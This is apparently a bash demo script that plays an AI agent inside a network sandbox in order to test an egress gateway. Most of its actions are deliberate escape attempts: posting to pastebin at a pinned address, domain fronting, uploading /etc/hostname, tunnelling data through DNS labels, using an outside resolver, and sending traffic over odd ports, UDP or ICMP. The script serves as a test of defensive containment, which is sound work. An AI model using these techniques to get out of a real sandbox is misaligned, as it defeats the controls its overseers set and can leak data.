#!/usr/bin/env bash
# A stand-in for an AI agent inside the sandbox (scripts/demo-egress.sh runs it in the sandbox's
# network namespace, made by `cordon sandbox netns create`). It has no proxy settings and no
# secrets: names resolve through the gateway's DNS responder (the sandbox's resolv.conf), and the
# steering program on the sandbox's interface hands TCP 443 to the gateway and drops the rest.
# It holds only the gateway's root certificate and, for GitHub, a revocable proxy token.
# Usage: agent.sh ACTION   (ACTION: model | github | github-no-token | delete | other-host |
#                           fronting | upload | dns-allowed | dns-unlisted | dns-txt |
#                           dns-tunnel | dns-outside | port-8443 | udp-443 | ping)
# HTTP actions print one line "HTTP <code>" (000 when the connection was refused) and keep the
# response body in $AGENT_OUT/<action>.body; DNS actions print the address or the status.
set -uo pipefail
action=${1:?usage: agent.sh ACTION}
: "${AGENT_CA:?}" "${AGENT_OUT:?}"
args=(-sS --max-time 10 --cacert "$AGENT_CA" -o "$AGENT_OUT/$action.body" -w 'HTTP %{http_code}\n')
case "$action" in
  model)  # the model API: the agent sends no key at all
    curl "${args[@]}" -X POST -H 'content-type: application/json' \
      -d '{"model":"demo","messages":[]}' https://api.anthropic.com/v1/messages ;;
  github)  # GitHub with the proxy token in place of the PAT
    curl "${args[@]}" -H "Authorization: Bearer $AGENT_TOKEN" https://api.github.com/repos/acme/app ;;
  github-no-token)
    curl "${args[@]}" https://api.github.com/repos/acme/app ;;
  delete)  # a write the rules do not allow
    curl "${args[@]}" -X DELETE -H "Authorization: Bearer $AGENT_TOKEN" \
      https://api.github.com/repos/acme/app ;;
  other-host)  # a host in no destination of the profile, at an address chosen by the agent
    curl "${args[@]}" --resolve pastebin.com:443:203.0.113.7 https://pastebin.com/api/api_post.php ;;
  fronting)  # TLS to an allowed name, HTTP Host of another (domain fronting)
    curl "${args[@]}" -X POST -H 'Host: api.anthropic.com' -H 'content-type: application/json' \
      -d '{"model":"demo","messages":[]}' https://api.github.com/v1/messages ;;
  upload)  # an explicitly denied route on an allowed host
    curl "${args[@]}" -X POST -F 'file=@/etc/hostname' https://api.anthropic.com/v1/files ;;
  dns-allowed)  # the address the sandbox's resolver gives for an allowed name
    getent ahostsv4 api.github.com | awk 'NR==1 {print $1}' ;;
  dns-unlisted)
    dig +tries=1 +time=3 pastebin.com A | sed -n 's/.*status: \([A-Z]*\),.*/\1/p' ;;
  dns-txt)
    dig +tries=1 +time=3 api.github.com TXT | sed -n 's/.*status: \([A-Z]*\),.*/\1/p' ;;
  dns-tunnel)  # data smuggled as a long random label under an allowed name
    dig +tries=1 +time=3 nbswy3dpeb3w64tmmqqgc3dfmfzw2ylt.api.github.com A |
      sed -n 's/.*status: \([A-Z]*\),.*/\1/p' ;;
  dns-outside)  # a resolver of the agent's choosing
    dig +tries=1 +time=3 @198.51.100.10 pastebin.com A | sed -n 's/.*status: \([A-Z]*\),.*/\1/p' ;;
  port-8443)  # any port but 80/443
    curl "${args[@]}" --max-time 3 -k https://198.51.100.10:8443/ ;;
  udp-443)  # QUIC-shaped datagram
    if printf 'quic' >/dev/udp/198.51.100.10/443; then echo "sent (and dropped at the interface)"; else echo "send failed"; fi ;;
  ping)  # ICMP echo (python3 raw socket: no ping binary needed; the sandbox runs as root)
    python3 - <<'PY'
import socket, struct, select
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
pkt = bytearray(struct.pack("!BBHHH", 8, 0, 0, 0x1234, 1) + b"cordon")
c = sum((pkt[i] << 8) + pkt[i + 1] for i in range(0, len(pkt), 2))
c = (c & 0xffff) + (c >> 16); c = ~((c & 0xffff) + (c >> 16)) & 0xffff
pkt[2:4] = struct.pack("!H", c)
s.sendto(bytes(pkt), ("198.51.100.10", 0))
print("reply" if select.select([s], [], [], 2)[0] else "no reply")
PY
    ;;
  *) echo "agent.sh: unknown action $action" >&2; exit 2 ;;
esac
exit 0
